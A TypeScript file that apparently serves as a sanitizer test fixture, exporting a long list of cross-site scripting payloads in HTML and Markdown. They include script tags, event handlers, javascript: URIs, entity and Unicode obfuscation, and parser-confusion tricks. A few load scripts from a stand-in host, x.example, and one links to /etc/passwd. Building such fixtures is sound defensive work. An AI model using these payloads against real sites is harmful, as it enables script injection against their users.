/** Markup that runs code or hides text in a page that shows it unread, by where it hides. One payload a line. */
export const hostileMarkup: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//x.example/x.js></SCRIPT>
<script src="data:text/javascript,alert(1)"></script>
<script/x>alert(1)</script/x>
<script ~~~>alert(1)</script ~~~>
<script>/*</script><script>*/alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)
<script type="text/template"><img src=x onerror=alert(1)></script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!ENTITY x "<script>alert(1)</script>">
<%00script>alert(1)</script>
<s&#99;ript>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
&#0000060script&#0000062alert(1)
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
＜script＞alert(1)＜/script＞
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"/>
<img src=x onerror='alert(1)'
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img	src=x	onerror=alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=${'`'}javascript:alert(1)${'`'}>
<IMG SRC="jav&#x09;ascript:alert(1)">
<IMG SRC="jav&#x0D;ascript:alert(1)">
<IMG SRC=" &#14; javascript:alert(1)">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>"\>
<IMG SRC=# onmouseover="alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<IMG DYNSRC="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="x 1x, javascript:alert(1) 2x">
<img alt="<script>alert(1)</script>" src="a.jpg">
<img title="<img src=x onerror=alert(1)>" src="a.jpg">
<img src="a.jpg" alt="x" title='"><svg onload=alert(1)>'>
<image src=x onerror=alert(1)>
<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/>
<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:alert(1)">
<svg><foreignObject><iframe src="javascript:alert(1)"></foreignObject></svg>
<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//x.example/%0ajavascript:alert(1)">x</a>
<a href="x" onclick="alert(1)">x</a>
<a href='x' style="background:url(javascript:alert(1))">x</a>
<area href="javascript:alert(1)" shape=default>
<base href="javascript:alert(1)//">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="a=<script>alert(1)</script>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<applet code="javascript:alert(1)">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<track src="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<keygen autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<layer src="javascript:alert(1)"></layer>
<xss onclick="alert(1)" tabindex=1>x</xss>
<x contenteditable onblur=alert(1)>x</x>
<custom-element onpointerenter=alert(1)>x</custom-element>
<div style="width:expression(alert(1))">x</div>
<div style="background-image:url(javascript:alert(1))">x</div>
<div style="-moz-binding:url(//x.example/x.xml#x)">x</div>
<div data-x="<script>alert(1)</script>">x</div>
<div onmouseover="alert(1)">x</div>
<p title="--><img src=x onerror=alert(1)>">x</p>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>
<table><tr><td><script>alert(1)</script></td></tr></table>
<b <script>alert(1)</script>0
<b onmouseover=alert(1)>x</b>
<style>@import "javascript:alert(1)"</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<title><img src=x onerror=alert(1)></title>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!doctype html [<!ENTITY x "x">]><img src=x onerror=alert(1)>
<? foo="><script>alert(1)</script>">
</ foo="><img src=x onerror=alert(1)>">
<! foo="><img src=x onerror=alert(1)>">
<o:p onclick=alert(1)>x</o:p>
<v:shape onload=alert(1) style="behavior:url(#default#VML)"/>
<mp-miniprogram data-miniprogram-path="javascript:alert(1)"></mp-miniprogram>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](javascript&#58;alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x][y] [y]: javascript:alert(1)
[<img src=x onerror=alert(1)>](story:abcdefgh12)
[x](story:"><img src=x onerror=alert(1)>)
![x](javascript:alert(1))
![x](data:text/html,<script>alert(1)</script>)
![x](a.jpg"onerror="alert(1))
![x](a.jpg "<img src=x onerror=alert(1)>")
![<img src=x onerror=alert(1)>](a.jpg)
![x](a.jpg "x｜图：<script>alert(1)</script>")
<javascript:alert(1)>
<https://x.example/"onclick="alert(1)>
**<**img src=x onerror=alert(1)>
*<*script*>*alert(1)*<*/script*>*
\<img src=x onerror=alert(1)\>
\\<img src=x onerror=alert(1)>
<b><i><u><s><img src=x onerror=alert(1)></b></i></u></s>
==<img src=x onerror=alert(1)>==
${'`'}<script>alert(1)</script>${'`'}
<code>&lt;img src=x onerror=alert(1)&gt;</code>
<math><mtext><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<select><style></select><svg><style><img src=x onerror=alert(1)></style></svg>
<div><template><s><template><s><img src=x onerror=alert(1)>x</s></template></s></template>
＊＊<img src=x onerror=alert(1)>＊＊
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116(1)">
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)">x</a>
<a href="jav	ascript:alert('x');">x</a>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^${'`'}=alert("x")>
\";alert('x');//
Set.constructor${'`'}alert\x28document.domain\x29
<BR SIZE="&{alert('x')}">
<META HTTP-EQUIV="Link" Content="<http://x.example/x.css>; REL=stylesheet">
<STYLE>@im\port'\ja\vasc\ript:alert("x")';</STYLE>
<IMG STYLE="x:expr/*x*/ession(alert('x'))">
¼script¾alert(¢x¢)¼/script¾
<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('x');">
<DIV STYLE="background-image: url(&#1;javascript:alert('x'))">
<DIV STYLE="background-image:\0075\0072\006C\0028\006a\0061\0076\0061\0073">
<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://x.example/x.js></SCRIPT>'"-->
<? echo('<SCR)'; echo('IPT>alert("x")</SCRIPT>'); ?>
<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('x');+ADw-/SCRIPT+AD4-
<SCRIPT a=">" SRC="http://x.example/x.js"></SCRIPT>
<SCRIPT "a='>'" SRC="http://x.example/x.js"></SCRIPT>
<SCRIPT a=${'`'}>${'`'} SRC="http://x.example/x.js"></SCRIPT>
<A HREF="h&#x0A;tt&#09;p://6	6.000146.0x7.147/">x</A>
<Img src = x onerror = "javascript: window.onerror = alert; throw x">
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<a href=javascript:void(0) popovertarget=x onbeforetoggle=alert(1)>x</a>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
`
  .split('\n')
  .filter(Boolean)
  .concat(
    '[x](java\u200bscript:alert(1))',
    '<scr\u200bipt>alert(1)</scr\u200bipt>',
    '<img src=x one\u0000rror=alert(1)>',
    '<\u0000script>alert(1)</script>',
    '\u202e<b>\u2066x',
    '\u202e>tpircs/<)1(trela>tpircs<',
    '<img src=x\nonerror=alert(1)>',
    '<img src="x\n\nonerror=alert(1)>',
    '<script\n>alert(1)</script\n>',
    '> <script>\n> alert(1)\n> </script>',
    '- <img src=x\n  onerror=alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '![x][y]\n\n[y]: javascript:alert(1)',
    '| <b | onload=alert(1)> |\n| - | - |\n| <img src=x | onerror=alert(1)> |',
  )
